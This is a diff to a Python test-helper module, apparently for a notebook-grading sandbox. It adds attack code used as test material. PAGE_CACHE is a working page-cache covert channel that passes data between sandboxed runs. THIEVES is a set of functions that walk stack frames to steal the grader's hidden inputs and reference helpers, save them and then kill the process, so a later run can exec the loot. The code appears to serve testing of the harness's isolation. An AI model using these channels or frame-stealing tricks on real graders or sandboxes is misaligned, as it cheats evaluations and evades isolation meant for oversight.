@@ -106,6 +106,92 @@ def _cell(source: str) -> Any:
     return nbformat.v4.new_code_cell(source)
 
 
+# A channel from one run to another: ``store(data)`` and ``load()``, as code of a submission. This one is in the page
+# cache: which pages of the system's largest files are in memory tells a bit each. It needs 8 pages for every byte.
+PAGE_CACHE = """
+import glob, os, struct, zlib
+def pages():
+    mapped = {line.split(maxsplit=5)[5].strip() for line in open("/proc/self/maps") if "/" in line}
+    paths = [path for path in glob.glob("/usr/lib/*/*") if os.path.isfile(path) and not os.path.islink(path)]
+    paths = [path for path in paths if os.path.getsize(path) > 1 << 20 and path not in mapped]
+    for path in sorted(paths, key=lambda path: (-os.path.getsize(path), path)):
+        try: file = os.open(path, os.O_RDONLY)
+        except OSError: continue
+        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
+        yield file, range(0, os.path.getsize(path) - 4096, 4096)
+        os.close(file)
+def store(data):
+    data = zlib.compress(data, 9)
+    data = struct.pack(">4sII", b"LOOT", len(data), zlib.crc32(data)) + data
+    bits = iter("".join(f"{byte:08b}" for byte in data))
+    for file, offsets in pages():
+        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
+        for offset, bit in zip(offsets, bits):
+            if bit == "1": os.pread(file, 1, offset)
+        if not (bit := next(bits, "")): return
+def load():
+    def bits():
+        for file, offsets in pages():
+            for offset in offsets:
+                try: os.preadv(file, [bytearray(1)], offset, os.RWF_NOWAIT); yield 1
+                except BlockingIOError: yield 0
+    stream = bits()
+    def take(count): return bytes(sum(next(stream) << 7 - i for i in range(8)) for _ in range(count))
+    word, size, sum_of_all = struct.unpack(">4sII", take(12))
+    data = take(size) if word == b"LOOT" and size < 50_000 else b""
+    return zlib.decompress(data) if data and zlib.crc32(data) == sum_of_all else b""
+"""
+# A channel that no sandbox has: a test carries what is written here to every process that begins later.
+PERFECT = """
+import base64, json, os
+def store(data): os.write(3, json.dumps({"loot": base64.b64encode(data).decode()}).encode() + b"\\n")
+def load(): return open("loot.txt", "rb").read() if os.path.exists("loot.txt") else b""
+"""
+# Functions that return nothing right and take what they find in the frames above them: the sources of references in a
+# second try, hidden inputs in a first one.
+THIEVES = """
+import json, os, signal, sys
+LOOT, SEEN = {}, {}
+def leave(how):
+    if how == "kill": os.kill(os.getpid(), signal.SIGKILL)
+    if how == "exit": os._exit(1)
+def request():
+    frame = sys._getframe()
+    while frame is not None:
+        found = frame.f_locals.get("request")
+        if isinstance(found, dict) and "cases" in found: return found
+        frame = frame.f_back
+    return {}
+def thief(name, last, how, what):
+    def steal(*args, **kwargs):
+        found = request()
+        new = found.get("helpers", ()) if what == "helpers" else [repr(args)] if found else ()
+        SEEN.update(dict.fromkeys(new, 1))
+        if new and name == last and not LOOT:
+            store("\\n".join(SEEN).encode()[:20_000])
+            leave(how)
+        return 0
+    return steal
+try: TEXT = load().decode()
+except Exception as error: TEXT, _ = "", print("no channel:", type(error).__name__)
+print("LOOT", len(TEXT), TEXT if SHOW else "")
+try: TEXT and exec(TEXT, LOOT)
+except Exception: pass
+"""
+
+
+def thieves(
+    room: Room, channel: str, how: str = "", last: str = "L_model_backward", what: str = "helpers", show: bool = False
+) -> Any:
+    """A notebook without one right answer, but for what an earlier run has left in the channel.
+
+    ``last`` is the function that passes on what was stolen, and then ends its process (``how``: kill, exit).
+    """
+    answers = {name: f"{name} = LOOT.get('{name}') or thief('{name}', '{last}', '{how}', '{what}')"
+               for name in room.points}  # fmt: skip
+    return room.notebook(answers, start=f"{channel}SHOW = {show}\n{THIEVES}")
+
+
 def printed(marked: Marked) -> str:
     """Everything that a cell showed, as text."""
     return "\n".join(
@@ -124,4 +210,4 @@ def leaked(room: Room, marked: Marked) -> set[str]:
     return {secret for secret in room.secrets() if secret in text}
 
 
-__all__ = ["QUICK", "Room", "leaked", "marking", "printed", "said"]
+__all__ = ["PAGE_CACHE", "PERFECT", "QUICK", "Room", "leaked", "marking", "printed", "said", "thieves"]
